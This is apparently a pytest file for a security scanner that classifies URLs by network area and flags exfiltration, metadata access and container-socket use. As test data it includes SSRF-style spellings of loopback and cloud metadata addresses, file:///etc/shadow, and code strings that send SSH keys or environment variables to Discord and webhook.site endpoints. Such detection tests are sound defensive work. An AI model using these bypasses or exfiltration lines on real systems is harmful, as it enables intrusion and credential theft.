"""Addresses: where they lead in whatever spelling, their host and port, and whether a list of hosts covers them."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ringfence.scanning import Area, scan
from ringfence.scanning.effects import HOLE
from ringfence.scanning.urls import host_of, port_of, url_areas, within
from ringfence.threat import ThreatLevel

HIDDEN_LOOPBACK = frozenset({Area.LOOPBACK, Area.OBSCURED})


@pytest.mark.parametrize(
    "host",
    [
        "127.1",
        "127.0.1",
        "0x7f.1",
        "0x7F000001",
        "0177.0.0.1",
        "017700000001",
        "2130706433",
        "127.0.0.01",
        "127.0.0.1.",
        "0",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[::127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "\N{FULLWIDTH DIGIT ONE}27.0.0.1",
        "127\N{IDEOGRAPHIC FULL STOP}0.0.1",
        "%31%32%37.0.0.1",
        "127.0.0\t.1",
        "example.com@127.0.0.1",
        "127.0.0.1.nip.io",
        "x-127-0-0-1.sslip.io",
        "7f000001.nip.io",
        "localhost.",
    ],
)
def test_this_machine_has_many_spellings(host: str) -> None:
    """An address that leads to this machine does so in every spelling that a client accepts, and is obscured besides."""
    assert url_areas(f"http://{host}:8080/x") == HIDDEN_LOOPBACK


@pytest.mark.parametrize(
    ("address", "areas"),
    [
        ("https://example.org/x", {Area.PUBLIC}),
        ("https://8.8.8.8", {Area.PUBLIC}),
        ("http://[2001:4860:4860::8888]:80", {Area.PUBLIC}),
        ("http://m\N{LATIN SMALL LETTER U WITH DIAERESIS}nchen.de", {Area.PUBLIC}),
        ("https://john.doe:pw@example.org", {Area.PUBLIC}),
        ("https://medium.com/@x", {Area.PUBLIC}),
        ("localhost:80", {Area.LOOPBACK}),
        ("a.localhost", {Area.LOOPBACK}),
        ("127.9.9.9", {Area.LOOPBACK}),
        ("[::]:80", {Area.LOOPBACK}),
        ("0.0.0.0:80", {Area.LOOPBACK}),
        ("10.1.2.3", {Area.INTERNAL}),
        ("100.64.0.1", {Area.INTERNAL}),
        ("fd00::1", {Area.INTERNAL}),
        ("224.0.0.1", {Area.INTERNAL}),
        ("redis://db:6379", {Area.INTERNAL}),
        ("x.internal", {Area.INTERNAL}),
        ("169.254.7.7", {Area.LINK_LOCAL}),
        ("fe80::1%eth0", {Area.LINK_LOCAL}),
        ("http://169.254.169.254/", {Area.METADATA, Area.LINK_LOCAL}),
        ("http://100.100.100.200/", {Area.METADATA, Area.INTERNAL}),
        ("metadata.google.internal.", {Area.METADATA, Area.INTERNAL}),
        (f"http://{HOLE}/latest/meta-data/", {Area.METADATA}),
        ("http://x.onion/", {Area.ONION, Area.PUBLIC}),
        ("https://webhook.site/x", {Area.DROP, Area.PUBLIC}),
        ("https://a.b.ngrok-free.app", {Area.DROP, Area.PUBLIC}),
        ("https://notpastebin.com", {Area.PUBLIC}),
        (f"https://webhook.site/{HOLE}", {Area.DROP, Area.PUBLIC}),
        (f"https://webhook.site/1a2b?d={HOLE}", {Area.DROP, Area.PUBLIC, Area.LADEN}),
        (f"https://webhook.site/1a2b/{HOLE}", {Area.DROP, Area.PUBLIC, Area.LADEN}),
        (f"{HOLE}.oast.fun", {Area.DROP, Area.PUBLIC, Area.LADEN}),
        (f"https://pastebin.com/raw/x?{HOLE}", {Area.DROP, Area.PUBLIC}),
        (f"https://{HOLE}.ngrok.io/?q={HOLE}", {Area.DROP, Area.PUBLIC}),
        ("https://discord.com/api/webhooks/1/x", {Area.MESSENGER, Area.PUBLIC}),
        ("https://api.telegram.org/bot1:a/sendMessage", {Area.MESSENGER, Area.PUBLIC}),
        ("https://hooks.slack.com/services/a/b/c", {Area.MESSENGER, Area.PUBLIC}),
        ("http://[::ffff:169.254.169.254]", {Area.METADATA, Area.LINK_LOCAL, Area.OBSCURED}),
        ("/var/run/x.sock", set()),
        ("http+unix://%2Frun%2Fx.sock/y", set()),
        ("unix:///run/x.sock", set()),
        ("//example.org/x", {Area.PUBLIC}),
        ("https://discord.com/x", {Area.PUBLIC}),
        ("http://good.com@evil.example", {Area.PUBLIC, Area.OBSCURED}),
        ("http://evil.example\\@good.com", {Area.PUBLIC, Area.OBSCURED}),
        (f"192.168.1.{HOLE}", {Area.INTERNAL}),
        (f"https://api.{HOLE}.com", {Area.PUBLIC}),
        (HOLE, set()),
        (f"http://{HOLE}/x", set()),
        ("data:text/html,x", set()),
        ("", set()),
    ],
)
def test_areas(address: str, areas: set[Area]) -> None:
    """An address belongs to exactly the areas of where a connection would end up."""
    assert url_areas(address) == areas


@pytest.mark.parametrize(
    ("address", "host", "port"),
    [
        ("https://Example.ORG./x", "example.org", 443),
        ("http://user:pw@example.org:8080/x", "example.org", 8080),
        ("example.org:22", "example.org", 22),
        ("http://0x7f.1/", "127.0.0.1", 80),
        ("http://[::1]:80/", "::1", 80),
        ("http://m\N{LATIN SMALL LETTER U WITH DIAERESIS}nchen.de", "xn--mnchen-3ya.de", 80),
        ("postgres://u:p@db/x", "db", 5432),
        (f"https://api.{HOLE}/", "", 443),
        ("http://a.example\\@b.example/", "", 80),
        ("http://example.org:99999/", "example.org", None),
        ("data:,x", "", None),
    ],
)
def test_host_and_port(address: str, host: str, port: int | None) -> None:
    """Host and port come out plain; a host that is in doubt comes out empty."""
    assert host_of(address) == host
    assert port_of(address) == port


def test_a_list_of_hosts_covers_what_is_certain() -> None:
    """A pattern covers names below it, an entry covers itself in every spelling, and nothing covers a host in doubt."""
    hosts = ["*.example.org", "a.example", "10.0.0.1", "::1"]
    for address in (
        "https://x.example.org",
        "https://A.example.:443/",
        "http://0xa.1",
        "[::1]:80",
        "x.y.example.org",
    ):
        assert within(hosts, address), address
    for address in (
        "example.org",
        "example.org.evil.example",
        "xexample.org",
        ".example.org",
        "https://a.example@evil.example",
        "https://a.example\\@evil.example",
        f"a.example{HOLE}",
        f"{HOLE}.example.org",
        "a.example.evil.example",
    ):
        assert not within(hosts, address), address
    assert within(["*"], "https://example.org")
    assert not within(["*"], HOLE)


@pytest.mark.parametrize(
    "address", ["", "  ", "http://", "http:///", "http://a b/", "x\ny", "not an address", "http://[", ":80"]
)
def test_no_address_at_all_is_refused(address: str) -> None:
    """A text that names no host is a problem of its own."""
    report = scan(address, "url")
    assert report.problem is not None
    assert report.problem.kind == "unparsed"


def test_a_file_url_is_judged_as_the_file() -> None:
    """A `file:` URL reads what it names."""
    rules = {finding.rule for finding in scan("file:///etc/shadow", "url").findings}
    assert {"network-scheme", "path-read-secret-store"} <= rules


@pytest.mark.parametrize(
    "address", ["http://169.254.169.254/", "http://0251.0376.0251.0376/", "http://[::ffff:169.254.169.254]/"]
)
def test_metadata_is_critical(address: str) -> None:
    """A cloud's metadata service is never reached, at any level, in any spelling."""
    assert scan(address, "url").level is ThreatLevel.CRITICAL


@given(
    st.ip_addresses(v=4),
    st.sampled_from(
        ["{}.{}.{}.{}", "0x{:x}.0x{:x}.0x{:x}.0x{:x}", "0{:o}.0{:o}.0{:o}.0{:o}", "{:03d}.{}.{}.{}"]
    ),
)
def test_every_spelling_of_a_number_leads_to_it(address: object, spelling: str) -> None:
    """Octal, hexadecimal and decimal parts give the address that they spell, and never less than its areas."""
    parts = [int(part) for part in str(address).split(".")]
    text = spelling.format(*parts)
    if spelling.startswith("{:03d}"):
        parts[0] = int(text[:3], 8) if all(c in "01234567" for c in text[:3]) and text[0] == "0" else parts[0]
    assert host_of(text) == ".".join(map(str, parts))
    assert url_areas(text) >= url_areas(host_of(text))


@given(st.text())
def test_any_text_is_answered(text: str) -> None:
    """No text makes the functions about addresses raise."""
    url_areas(text)
    host_of(text)
    port_of(text)
    within(["*.example.org"], text)


@pytest.mark.parametrize(
    "unit", ["a.", "@", "[", ":", "http://", "1.", "0x", "%31", "\\", "-1", "\t", "\N{FULLWIDTH DIGIT ONE}"]
)
def test_long_texts_take_linear_time(unit: str) -> None:
    """An address of 100,000 characters is answered at once, whatever it repeats (each test has a time limit)."""
    text = unit * (100_000 // len(unit))
    url_areas(text)
    host_of(text)


POST = "import requests\n{}requests.post('{}', json={{'text': {}}})"
DISCORD = "https://discord.com/api/webhooks/1/a"


@pytest.mark.parametrize(
    ("address", "before", "text", "blocks"),
    [
        (DISCORD, "", "'done'", False),
        (DISCORD, "d = open('report.csv').read()\n", "d", False),
        (DISCORD, "d = open('/proc/cpuinfo').read()\n", "d", True),
        (DISCORD, "d = open('/root/.ssh/id_rsa').read()\n", "d", True),
        (DISCORD, "import os\nd = dict(os.environ)\n", "d", True),
        ("https://webhook.site/1", "", "'done'", True),
        ("https://transfer.sh/x", "", "'done'", True),
    ],
)
def test_a_chat_may_be_told_what_the_task_made(address: str, before: str, text: str, blocks: bool) -> None:
    """What a chat's webhook is sent counts, while a bin that hands it to anyone is bad for whatever is sent."""
    report = scan(POST.format(before, address, text))
    assert (report.level >= ThreatLevel.HIGH) is blocks


@pytest.mark.parametrize(
    ("address", "rule"),
    [
        ("stratum+tcp://pool.example.org:3333", "network-mining"),
        ("stratum+ssl://pool.example.org:443", "network-mining"),
        ("unix:///var/run/docker.sock", "network-container"),
        ("http+unix://%2Frun%2Fpodman%2Fpodman.sock/info", "network-container"),
        ("npipe:////./pipe/docker_engine", "network-container"),
        ("unix:///run/x.sock", "network-scheme"),
        ("http+unix://%2Frun%2Fx.sock/y", "network-scheme"),
        ("http://[::ffff:169.254.169.254]/", "network-metadata"),
    ],
)
def test_what_answers_there_is_bad(address: str, rule: str) -> None:
    """Mining pools, container engines, sockets and laden bins are found by rules that block."""
    report = scan(address, "url")
    assert report.level >= ThreatLevel.HIGH
    assert rule in {finding.rule for finding in report.findings if finding.level >= ThreatLevel.HIGH}


def test_the_sign_for_what_cannot_be_told_is_no_part_of_an_address() -> None:
    """An address that holds it itself would be taken for one that is not known; a laden bin in code is found all the same."""
    report = scan(f"https://webhook.site/1a2b?d={HOLE}", "url")
    assert report.problem is not None
    code = "def f(data):\n    import requests\n    requests.get('https://webhook.site/1a2b?d=' + data)"
    assert "network-send-drop" in {finding.rule for finding in scan(code).findings}
